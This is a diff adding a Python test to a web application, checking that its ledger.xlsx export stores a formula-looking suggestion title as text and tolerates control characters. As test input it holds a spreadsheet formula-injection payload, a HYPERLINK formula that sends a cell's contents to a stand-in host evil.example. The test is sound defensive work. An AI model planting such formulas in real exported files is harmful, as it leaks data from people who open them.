@@ -207,3 +207,40 @@ def test_anyone_else_creating_a_department_user_binding_is_checked(db, gz):
     with gz.server.client("office") as office:
         wrong = office.post(f"/api/v1/suggestions/departments/{gz.market_id}/members", json={"username": "stranger"})
     assert wrong.status_code == 422 and wrong.json()["detail"][0]["rule"] == "department.member_role"
+
+
+def test_the_ledger_export_writes_a_formula_as_text_and_survives_a_control_character(db, gz):
+    """A title that is a formula stays text in ledger.xlsx; a U+0001 is refused at input, and one
+    stored before that rule never breaks the export (it made every later download a 500)."""
+    from sqlalchemy import update
+
+    from yima.observers.tables import Suggestion
+
+    attack = '=HYPERLINK("http://evil.example/?"&B3,"详情")'
+    with gz.server.client(USERS["observer"]) as observer, gz.server.client("office") as office:
+        made = observer.post("/api/v1/suggestions", json={"title": attack, "text": "x", "category": "finance"})
+        assert made.status_code == 201
+        office.post(f"/api/v1/suggestions/{made.json()['id']}/accept").raise_for_status()
+        hidden = observer.post("/api/v1/suggestions", json={"title": "a\x01b", "text": "x", "category": "finance"})
+        assert hidden.status_code == 422 and hidden.json()["detail"][0]["rule"] == "text.hidden_character"
+        old = observer.post("/api/v1/suggestions", json={"title": "旧数据", "text": "x", "category": "finance"})
+        office.post(f"/api/v1/suggestions/{old.json()['id']}/accept").raise_for_status()
+        with db.write() as session:  # stored before the input rule existed
+            session.execute(update(Suggestion).where(Suggestion.id == old.json()["id"]).values(title="旧\x01数据"))
+        for _ in range(2):
+            answer = office.get("/api/v1/suggestions/ledger.xlsx")
+            assert answer.status_code == 200
+            sheet = load_workbook(io.BytesIO(answer.content))["台账"]
+            cells = {c.value: c for line in sheet.iter_rows() for c in line if isinstance(c.value, str)}
+            formula = next(c for v, c in cells.items() if v.startswith("=HYPERLINK"))
+            assert formula.data_type == "s" and formula.quotePrefix and formula.value.startswith(attack)
+            assert any(v.startswith("旧\ufffd数据") for v in cells)
+        raw = zipfile_texts(answer.content)
+        assert "<f>" not in raw and "\x01" not in raw
+
+
+def zipfile_texts(content: bytes) -> str:
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return "".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())
